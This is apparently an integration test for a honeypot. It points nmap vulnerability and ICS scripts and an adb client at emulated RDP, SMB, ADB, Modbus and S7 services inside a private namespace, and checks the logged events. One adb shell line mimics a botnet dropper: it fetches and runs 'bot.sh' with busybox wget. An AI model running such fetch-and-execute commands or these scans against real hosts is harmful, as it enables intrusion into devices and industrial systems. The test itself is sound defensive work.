#!/usr/bin/env python3
"""The RDP, SMB, ADB, Modbus and S7 honeypots against real tools, on their standard ports in
a private network namespace (nmap's scripts only run against the standard ports):

  nmap -sV -p 3389,445 --script rdp-ntlm-info,smb-protocols,smb-vuln-ms17-010
  nmap -p 102,502 --script s7-info,modbus-discover
  adb connect + adb shell

Each tool must see the service it looks for, and the events must carry the catalogue's
columns (cookie and requested protocols, SMB commands/dialects/flags and the MS17-010 CVE,
ADB banner and commands, ICS unit/function/request/response). Then IntelMQ's rules over the
reports.

Usage: tcp_scan_test.py VANTAGE_BINARY SOURCE_DIR   (exit 77 when not root)
"""
import os
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hp_util  # noqa: E402
from hp_util import check  # noqa: E402

VANTAGE, SRC = sys.argv[1], sys.argv[2]
NS = f"vtcp{os.getpid()}"


def in_ns(*cmd, timeout=120, env=None):
    return subprocess.run(["ip", "netns", "exec", NS] + list(cmd), capture_output=True,
                          text=True, timeout=timeout, env=env)


def main():
    if os.geteuid() != 0 or not shutil.which("ip"):
        print("tcp_scan_test: needs root for a network namespace; skipped")
        return 77
    for tool in ("nmap", "adb"):
        if not shutil.which(tool):
            print(f"tcp_scan_test: {tool} missing (scripts/install-deps.sh --test)")
            return 1
    work = hp_util.workdir("vantage_tcpscan_")
    subprocess.run(["ip", "netns", "add", NS], check=True)
    try:
        in_ns("ip", "link", "set", "lo", "up")
        hp = hp_util.Honeypot(VANTAGE, work, ["rdp=127.0.0.1:3389", "smb=127.0.0.1:445",
                                              "adb=127.0.0.1:5555", "modbus=127.0.0.1:502",
                                              "s7=127.0.0.1:102"], netns=NS)
        r = in_ns("nmap", "-Pn", "-n", "-sV", "-p", "3389,445", "--script",
                  "rdp-ntlm-info,smb-protocols,smb-vuln-ms17-010", "127.0.0.1")
        out = r.stdout
        check("3389/tcp open  ms-wbt-server" in out, "nmap -sV: RDP is Microsoft Terminal Services")
        check("445/tcp  open  microsoft-ds" in out, "nmap -sV: SMB is microsoft-ds")
        check("NT LM 0.12 (SMBv1)" in out and "311" in out,
              "nmap smb-protocols: SMBv1 and 2.0.2 .. 3.1.1")
        check("State: VULNERABLE" in out, "nmap smb-vuln-ms17-010 sees an unpatched server")
        r = in_ns("nmap", "-Pn", "-n", "-p", "102,502", "--script", "s7-info,modbus-discover",
                  "127.0.0.1")
        out = r.stdout
        check("Module: 6ES7 315-2EH14-0AB0" in out and "Version: 3.2.6" in out,
              "nmap s7-info: an S7-300")
        check("Device identification: Schneider Electric BMX P34 2020 v2.8" in out,
              "nmap modbus-discover: a Modicon M340")
        adb_env = dict(os.environ, HOME=work)
        in_ns("adb", "start-server", env=adb_env, timeout=30)
        r = in_ns("adb", "connect", "127.0.0.1:5555", env=adb_env, timeout=30)
        check("connected to 127.0.0.1:5555" in r.stdout, f"adb connect ({r.stdout.strip()})")
        in_ns("adb", "-s", "127.0.0.1:5555", "shell",
              "cd /data/local/tmp; busybox wget http://127.0.0.1/bot.sh; sh bot.sh",
              env=adb_env, timeout=30)
        in_ns("adb", "kill-server", env=adb_env, timeout=30)
        hp.stop()
        by_type = {}
        for e in hp.events():
            by_type.setdefault(e["type"], []).append(e["fields"])
        rdp = by_type.get("event4_honeypot_rdp_scan", [])
        with_cookie = [f for f in rdp if f.get("cookie") == "mstshash=nmap"]
        check(len(rdp) >= 2 and with_cookie and
              all(f["session_tags"].startswith("requested=") for f in with_cookie),
              f"rdp_scan: {len(rdp)} events, nmap's cookie and requested protocols "
              f"({[f.get('session_tags') for f in with_cookie][:1]})")
        smb = by_type.get("event4_honeypot_smb_scan", [])
        check(any("NT LM 0.12" in f.get("supported_protocols", "") for f in smb) and
              any("3.1.1" in f.get("supported_protocols", "") for f in smb) and
              all(f.get("command", "").startswith("negotiate") and "flags" in f for f in smb),
              f"smb_scan: {len(smb)} events with commands, dialects and flags")
        vuln = [f for f in smb if f.get("vulnerability_id") == "CVE-2017-0144"]
        check(vuln and "trans" in vuln[0]["command"] and vuln[0]["threat_technique_id"] == "T1210",
              f"smb_scan: the MS17-010 check carries CVE-2017-0144 ({vuln[:1]})")
        adb = by_type.get("event4_honeypot_adb_scan", [])
        shell = [f for f in adb if "busybox wget http://127.0.0.1/bot.sh" in f.get("commands", "")]
        check(shell and shell[0]["system_type"] == "host" and shell[0]["banner"].startswith("host::")
              and int(shell[0]["maxdata"]) > 0, f"adb_scan: banner, maxdata and the shell command")
        ics = by_type.get("event4_honeypot_ics_scan", [])
        functions = {(f["application"], f.get("function_code")) for f in ics}
        check(("modbus", "17") in functions and ("modbus", "43") in functions,
              "ics_scan: modbus report-server-id (17) and device identification (43)")
        check(("s7comm", "read-szl 0x0011") in functions and ("s7comm", "read-szl 0x001c") in
              functions and ("s7comm", "setup-communication") in functions,
              "ics_scan: S7 setup communication and both SZL reads")
        check(all(f.get("request") and f.get("slave_id") for f in ics if f.get("function_code")),
              "ics_scan: every request has its unit/slave id and bytes")
        hp_util.intelmq_reports(VANTAGE, work, hp.inbox, ["127.0.0.0/8"])
    finally:
        subprocess.run(["ip", "netns", "del", NS], capture_output=True)
        shutil.rmtree(work, ignore_errors=True)
    return hp_util.finish()


if __name__ == "__main__":
    sys.exit(main())
